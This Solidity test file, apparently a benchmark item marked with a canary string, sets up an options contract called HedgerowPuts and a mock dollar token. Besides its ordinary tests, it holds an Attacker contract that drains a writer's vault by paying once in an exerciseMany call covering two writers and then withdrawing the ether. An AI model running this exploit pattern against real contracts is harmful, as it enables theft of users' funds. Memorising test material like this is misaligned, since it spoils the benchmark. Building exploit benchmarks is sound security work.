// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./HedgerowPuts.sol";

// assay-canary-43ba9955-a3d2-46de-bf1f-e99379b5f3a9

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    using Checked for uint256;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] = balanceOf[to].add(amount);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] = balanceOf[msg.sender].sub(amount, "balance");
        balanceOf[to] = balanceOf[to].add(amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(amount, "allowance");
        balanceOf[from] = balanceOf[from].sub(amount, "balance");
        balanceOf[to] = balanceOf[to].add(amount);
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant WILMA = address(0x111);
    address internal constant BRUNO = address(0x222);
    uint256 internal constant STRIKE = 371e6;

    Dollar internal usd;
    HedgerowPuts internal puts;
    Attacker internal thief;

    receive() external payable {}

    function setUp() public {
        vm.warp(1596000000);
        usd = new Dollar();
        puts = new HedgerowPuts(IDollar(address(usd)), STRIKE, 1596000000 + 30 days);
        usd.mint(WILMA, 1000 * STRIKE);
        vm.prank(WILMA);
        usd.approve(address(puts), 1000 * STRIKE);
        vm.prank(WILMA);
        puts.write(1000 * STRIKE, 1000 ether);

        // the attacker has bought Wilma's options on the market, and has dollars and ether of its own
        thief = new Attacker(puts, usd);
        vm.prank(WILMA);
        puts.transfer(address(thief), 999 ether);
        usd.mint(address(thief), 999 * STRIKE);
        vm.deal(address(thief), 999 ether);
    }

    function test_Regular() public {
        usd.mint(BRUNO, 20 * STRIKE);
        vm.prank(BRUNO);
        usd.approve(address(puts), 20 * STRIKE);
        vm.prank(BRUNO);
        (bool ok, ) = address(puts).call(abi.encodeWithSelector(puts.write.selector, 9 * STRIKE, 10 ether));
        require(!ok, "not covered");
        vm.prank(BRUNO);
        puts.write(20 * STRIKE, 10 ether);
        vm.prank(BRUNO);
        puts.transfer(address(this), 6 ether);
        vm.prank(WILMA);
        puts.transfer(address(this), 1 ether);
        vm.deal(address(this), 10 ether);

        (ok, ) = address(puts).call{value: 2 ether}(abi.encodeWithSelector(puts.exercise.selector, BRUNO, 1 ether));
        require(!ok, "change");
        puts.exercise{value: 2 ether}(BRUNO, 2 ether);
        require(usd.balanceOf(address(this)) == 2 * STRIKE, "paid");
        address[] memory writers = new address[](2);
        uint256[] memory options = new uint256[](2);
        (writers[0], writers[1]) = (BRUNO, WILMA);
        (options[0], options[1]) = (3 ether, 1 ether);
        puts.exerciseMany{value: 4.5 ether}(writers, options);
        require(usd.balanceOf(address(this)) == 6 * STRIKE && puts.balanceOf(address(this)) == 1 ether, "paid twice");
        (uint256 dollars, uint256 written, uint256 fetchable) = puts.vaults(BRUNO);
        require(dollars == 15 * STRIKE && written == 5 ether && fetchable == 5 ether, "vault");
        require(puts.weiOfWriters() == 6 ether, "held");
        puts.sweep();
        require(address(this).balance == 4 ether, "swept");

        vm.prank(BRUNO);
        puts.fetchEther();
        require(BRUNO.balance == 5 ether, "ether");
        vm.prank(BRUNO);
        puts.unwrite(2 ether);
        vm.prank(BRUNO);
        (ok, ) = address(puts).call(abi.encodeWithSelector(puts.fetchDollars.selector, 13 * STRIKE));
        require(!ok, "still covering");
        vm.prank(BRUNO);
        puts.fetchDollars(12 * STRIKE);
        vm.warp(1596000000 + 30 days);
        (ok, ) = address(puts).call{value: 1 ether}(abi.encodeWithSelector(puts.exercise.selector, BRUNO, 1 ether));
        require(!ok, "expired");
        vm.prank(BRUNO);
        puts.fetchDollars(3 * STRIKE);
        require(usd.balanceOf(BRUNO) == 15 * STRIKE, "rest");

        vm.prank(BRUNO);
        puts.approve(WILMA, 0);
        vm.prank(WILMA);
        puts.transferFrom(BRUNO, WILMA, 0);
        require(puts.allowance(BRUNO, WILMA) == 0, "allowance");
    }

    /// What Wilma has: her dollars, and her ether as far as it is there, at the strike price.
    function recoverable() public view returns (uint256) {
        (uint256 dollars, , uint256 amount) = puts.vaults(WILMA);
        uint256 there = address(puts).balance;
        return dollars + puts.atStrike(amount < there ? amount : there);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Series that are none, and what comes too late.
    function test_RefusesSeries() public {
        try new HedgerowPuts(IDollar(address(usd)), 0, block.timestamp + 1) {
            revert("for nothing");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("Hedgerow: series"), "strike");
        }
        try new HedgerowPuts(IDollar(address(usd)), 1, block.timestamp) {
            revert("over at once");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("Hedgerow: series"), "expiry");
        }
        refuses(BRUNO, "Hedgerow: house only");
        puts.sweep();
        vm.expectRevert("Hedgerow: lengths");
        puts.exerciseMany(new address[](1), new uint256[](0));
        vm.expectRevert(bytes("mul"));
        puts.atStrike(uint256(-1));
        refuses(WILMA, bytes("add"));
        puts.write(uint256(-1), 0);
        vm.warp(1596000000 + 30 days);
        refuses(WILMA, "Hedgerow: expired");
        puts.write(0, 0);
        vm.expectRevert("Hedgerow: expired");
        puts.exerciseMany(new address[](0), new uint256[](0));
    }

    /// Dollars that say no, and ether that is not taken.
    function test_RefusesFailedTransfers() public {
        vm.prank(WILMA);
        puts.transfer(address(this), 1 ether);
        vm.deal(address(this), 2 ether);
        usd.sleep(true);
        refuses(WILMA, "Hedgerow: dollars");
        puts.write(0, 0);
        refuses(BRUNO, "Hedgerow: dollars");
        puts.fetchDollars(0);
        vm.expectRevert("Hedgerow: dollars");
        puts.exercise{value: 1 ether}(WILMA, 1 ether);
        refuses(address(usd), "Hedgerow: payment");
        puts.fetchEther();
    }

    function exploit() public {
        thief.run(WILMA);
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(recoverable() + 370000e6 <= before, "nothing lost");
        require(usd.balanceOf(address(thief)) == 2 * 999 * STRIKE && address(thief).balance == 999 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(puts);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Exercises against the writer and against itself with one payment, and fetches the payment again as a writer.
contract Attacker {
    HedgerowPuts internal puts;
    Dollar internal usd;

    constructor(HedgerowPuts puts_, Dollar usd_) public {
        puts = puts_;
        usd = usd_;
    }

    receive() external payable {}

    function run(address writer) external {
        uint256 amount = puts.balanceOf(address(this));
        uint256 dollars = puts.atStrike(amount);
        usd.approve(address(puts), dollars);
        puts.write(dollars, amount);
        address[] memory writers = new address[](2);
        uint256[] memory options = new uint256[](2);
        (writers[0], writers[1]) = (writer, address(this));
        (options[0], options[1]) = (amount, amount);
        puts.exerciseMany{value: amount}(writers, options);
        puts.fetchEther();
    }
}
